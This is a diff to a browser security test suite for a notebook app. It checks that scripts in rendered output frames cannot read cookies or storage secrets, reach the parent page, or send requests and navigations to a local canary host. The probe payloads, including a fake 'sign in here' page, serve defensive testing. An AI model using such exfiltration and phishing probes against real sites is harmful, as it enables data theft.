@@ -4,6 +4,7 @@
 import assert from "node:assert/strict";
 import { test } from "node:test";
 
+import { canary } from "./lib/canary.mjs";
 import { suite } from "./lib/suite.mjs";
 
 const croquant = suite();
@@ -56,15 +57,15 @@ function showing(body) {
 }
 
 async function said(reader) {
-  const line = reader.page.frameLocator("iframe.cq-frame").last().locator("#said");
+  const line = reader.shown().locator("#said");
   await line.filter({ hasText: "}" }).waitFor();
   return JSON.parse(await line.textContent());
 }
 
-test("a script in rich output runs, and reaches nothing", async () => {
+test("a script in rich output runs, and reaches nothing", async (t) => {
   const reader = await croquant.open("/");
-  const asked = [];
-  reader.page.on("request", (request) => asked.push(request.url()));
+  const bird = await canary();
+  t.after(() => bird.stop());
   await reader.page.evaluate(() => localStorage.setItem("secret", "of the page"));
   await reader.type(
     reader.block(0),
@@ -76,27 +77,38 @@ test("a script in rich output runs, and reaches nothing", async () => {
       storage: () => localStorage.getItem("secret"),
       topNavigation: () => { top.location = "about:blank#gone"; return "left" },
       fetchApi: async () => (await fetch(${JSON.stringify(`${croquant.server.url}/api/kernels`)})).status,
-      image: () => new Promise((resolve, reject) => { const image = new Image(); image.onload = () => resolve("loaded"); image.onerror = () => reject(new Error("no")); image.src = ${JSON.stringify(`${croquant.server.url}/canary.png`)} }),
+      fetchAway: async () => (await fetch(${JSON.stringify(`${bird.url}/fetch`)})).status,
+      image: () => new Promise((resolve, reject) => { const image = new Image(); image.onload = () => resolve("loaded"); image.onerror = () => reject(new Error("no")); image.src = ${JSON.stringify(`${bird.url}/image`)} }),
+      script: () => new Promise((resolve, reject) => { const script = document.createElement("script"); script.onload = () => resolve("loaded"); script.onerror = () => reject(new Error("no")); script.src = ${JSON.stringify(`${bird.url}/script`)}; document.head.append(script) }),
       ownImage: () => new Promise((resolve, reject) => { const image = new Image(); image.onload = () => resolve("loaded"); image.onerror = () => reject(new Error("no")); image.src = "data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==" }),
-      socket: () => new Promise((resolve, reject) => { const socket = new WebSocket(${JSON.stringify(croquant.server.url.replace("http", "ws"))} + "/api/kernels"); socket.onopen = () => resolve("open"); socket.onerror = () => reject(new Error("no")) }),
+      socket: () => new Promise((resolve, reject) => { const socket = new WebSocket(${JSON.stringify(bird.url.replace("http", "ws"))}); socket.onopen = () => resolve("open"); socket.onerror = () => reject(new Error("no")) }),
       popup: () => { if (!open("about:blank")) throw new Error("no"); return "opened" },
     `),
   );
   const found = await said(reader);
   assert.equal(found.sum, "42", "the script ran");
   assert.equal(found.ownImage, "loaded", "what needs no network works");
-  for (const attack of ["parentDocument", "parentWrite", "cookie", "storage", "topNavigation", "fetchApi", "image", "socket", "popup"]) {
+  for (const attack of ["parentDocument", "parentWrite", "cookie", "storage", "topNavigation", "fetchApi", "fetchAway", "image", "script", "socket", "popup"]) {
     assert.match(found[attack], /^refused: /, attack);
   }
-  assert.deepEqual(asked.filter((url) => /canary|\/api\//.test(url)), [], "nothing was asked of the server");
+  assert.deepEqual(bird.asked, [], "nothing got out");
   await untouched(reader);
+  // The twin: from a frame without our policy, it does.
+  await reader.page.evaluate((url) => {
+    const frame = document.createElement("iframe");
+    frame.sandbox = "allow-scripts";
+    frame.srcdoc = `<img src="${url}">`;
+    document.body.append(frame);
+  }, `${bird.url}/image`);
+  await bird.wait(10_000);
+  assert.deepEqual(bird.asked, ["/image"]);
 });
 
 test("a script in an SVG runs in its frame alone", async () => {
   const reader = await croquant.open("/");
   const svg = "<svg viewBox='0 0 9 9' width='9'><script>try { parent.pwned = 1 } catch (error) { document.querySelector('svg').dataset.ran = error.name }</script></svg>";
   await reader.type(reader.block(0), `type("Show", (), {"_repr_svg_": lambda self: ${JSON.stringify(svg)}})()`);
-  await reader.page.frameLocator("iframe.cq-frame").last().locator("svg[data-ran=SecurityError]").waitFor({ state: "attached" });
+  await reader.shown().locator("svg[data-ran=SecurityError]").waitFor({ state: "attached" });
   await untouched(reader);
 });
 
@@ -107,14 +119,29 @@ test("a frame cannot grow over the page", async () => {
   await reader.page.waitForFunction(() => document.querySelector("iframe.cq-frame").height === "800");
 });
 
-test("a frame that leads elsewhere is closed", async () => {
+test("a frame cannot lead elsewhere, nor carry anything out by trying", async (t) => {
   const reader = await croquant.open("/");
-  await reader.type(reader.block(0), showing(`sum: () => 6 * 7`));
-  assert.equal((await said(reader)).sum, "42", "a frame that stays is left alone");
-  await reader.type(reader.block(0), `type("Show", (), {"_repr_html_": lambda self: "<script>location = 'data:text/html,<h1>sign in here</h1>'</script>"})()`);
-  await reader.page.getByText("The output tried to open another page").waitFor();
-  assert.equal(await reader.count("iframe.cq-frame"), 1);
+  const bird = await canary();
+  t.after(() => bird.stop());
+  const leave = `${bird.url}/secret`;
+  for (const target of [leave, "data:text/html,<h1>sign in here</h1>"]) {
+    await reader.type(reader.block(0), showing(`sum: () => 6 * 7, leave: () => { setTimeout(() => { location = ${JSON.stringify(target)} }, 300); return "asked" }`));
+    assert.deepEqual(await said(reader), { sum: "42", leave: "asked" }, "the script ran");
+    await reader.shown().locator("#said").waitFor({ state: "detached" });
+    assert.equal(await reader.shown().getByText("sign in").count(), 0);
+  }
+  await bird.wait(500);
+  assert.deepEqual(bird.asked, []);
   await untouched(reader);
+  // The twin: without the frame around it, the same navigation arrives.
+  await reader.page.evaluate((url) => {
+    const frame = document.createElement("iframe");
+    frame.sandbox = "allow-scripts";
+    frame.srcdoc = `<script>location = ${JSON.stringify(url)}</script>`;
+    document.body.append(frame);
+  }, leave);
+  await bird.wait(10_000);
+  assert.deepEqual(bird.asked, ["/secret"]);
 });
 
 test("a flood of output is cut, and says so", async () => {
